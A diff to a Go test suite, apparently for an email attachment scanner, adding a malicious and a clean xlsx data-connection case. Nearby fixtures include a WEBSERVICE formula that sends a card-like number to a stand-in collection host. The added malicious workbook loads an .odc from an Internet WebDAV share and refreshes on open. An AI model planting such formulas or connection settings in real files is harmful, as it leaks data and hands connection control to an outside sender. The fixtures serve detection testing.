@@ -225,6 +225,11 @@ func officeLinkCases() []officeCase {
 			data: xlsxSheet(`<row r="1"><c r="A1" t="str"><f t="shared" ref="A1:A3" si="0">_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)</f><v>ok</v></c><c r="B1" t="inlineStr"><is><t>4000-0000-0000-0002</t></is></c></row>`+
 				`<row r="2"><c r="A2" t="str"><f t="shared" si="0"/><v>ok</v></c></row><row r="3"><c r="A3" t="str"><f t="shared" si="0"/><v>ok</v></c><c r="B3" t="inlineStr"><is><t>sample</t></is></c></row>`, nil, ""),
 			wants: []relWant{{"heuristic", "formula-web-fetch", "/xl/worksheets/sheet1.xml"}}},
+		{name: "xlsx-connection-odc-webdav", about: "xlsx whose data connection is set to use only its connection file (onlyUseConnectionFile), an .odc on a WebDAV share of an Internet host (odcFile \\\\host@SSL\\DavWWWRoot\\...), and refreshes as the workbook opens: Excel fetches the sender's .odc, which says what to connect to",
+			action: policy.Tag, subject: "Sales figures", body: "The sales figures refresh as you open the workbook.\n", ctype: ctXlsx, file: "sales.xlsx",
+			data: xlsxOf([][]string{{"Region", "Sales"}}, nil, "", connectionsPart(`<connection id="1" odcFile="\\files.example.net@SSL\DavWWWRoot\conn\Sales.odc" onlyUseConnectionFile="1" name="Sales" type="5" refreshedVersion="8" refreshOnLoad="1" background="1">`+
+				`<dbPr connection="Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Sales;Data Source=SQL01" command="&quot;Sales&quot;" commandType="3"/></connection>`)),
+			wants: []relWant{{"heuristic", "query-file-fetch", "/xl/connections.xml"}}},
 		{name: "odt-linked-section-web", about: "OpenDocument text whose section is linked to a document on the web (text:section-source), which becomes the section's text, as Word's INCLUDETEXT",
 			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: ctOdt, file: "terms.odt",
 			data: odf(ctOdt, `<office:text><text:p>Terms</text:p><text:section text:name="Terms"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="https://files.example.net/terms.odt" text:filter-name="writer8"/>`+
@@ -297,6 +302,10 @@ func officeLinkClean() []Sample {
 			attach(ctXlsx, "quotes.xlsx", xlsxSheet(`<row r="1"><c r="A1" t="inlineStr"><is><t>MSFT</t></is></c><c r="B1" t="str"><f t="shared" ref="B1:B3" si="0">_xlfn.WEBSERVICE("https://quotes.example.org/q?s="&amp;A1)</f><v>1</v></c></row>`+
 				`<row r="2"><c r="A2" t="inlineStr"><is><t>AAPL</t></is></c><c r="B2" t="str"><f t="shared" si="0"/><v>2</v></c></row>`+
 				`<row r="3"><c r="A3" t="inlineStr"><is><t>GOOG</t></is></c><c r="B3" t="str"><f t="shared" si="0"/><v>3</v></c></row>`, nil, "")))})
+	add(ok("xlsx-connection-my-data-sources", "a colleague's workbook whose data connection was made from an .odc in her My Data Sources folder, to the intranet SQL server"),
+		mail{from: colleague, subject: "Sales", root: multipart("mixed", text("The sales workbook; Data > Refresh All updates it.\n"),
+			attach(ctXlsx, "sales.xlsx", xlsxOf([][]string{{"Region", "Sales"}}, nil, "", connectionsPart(`<connection id="1" odcFile="C:\Users\aiko\Documents\My Data Sources\SQL01 Sales.odc" name="SQL01 Sales" type="5" refreshedVersion="8" background="1">`+
+				`<dbPr connection="Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Sales;Data Source=SQL01" command="&quot;Sales&quot;" commandType="3"/></connection>`))))})
 	add(ok("ods-linked-sheet-intranet", "an OpenDocument spreadsheet referring to a workbook on the intranet file server (file://fileserver/...)"),
 		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary.\n"),
 			attach(ctOds, "summary.ods", odsLinked("file://fileserver/finance/budget.xlsx")))})
